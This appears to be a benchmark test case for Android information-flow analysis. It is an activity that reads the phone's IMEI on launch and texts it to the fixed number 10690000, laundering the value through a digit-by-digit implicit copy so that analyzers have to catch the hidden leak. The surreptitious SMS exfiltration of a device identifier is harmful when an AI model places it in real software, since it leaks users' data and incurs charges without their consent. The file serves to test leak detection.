// about       Each digit of the value is found by comparing; the digit that is appended is a loop's own.
// leak        DEV_IMEI sms
// option      --implicit
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String imei = phone.getDeviceId();
    getPreferences(MODE_PRIVATE).edit().putString("id", imei).apply();
    // What is copied digit by digit.
    SmsManager.getDefault().sendTextMessage("10690000", null, copy(imei), null, null);
  }

  private static String copy(String digits) {
    StringBuilder copied = new StringBuilder();
    for (int i = 0; i < digits.length(); i++) {
      for (char digit = '0'; digit <= '9'; digit++) {
        if (digits.charAt(i) == digit) {
          copied.append(digit);
        }
      }
    }
    return copied.toString();
  }
}
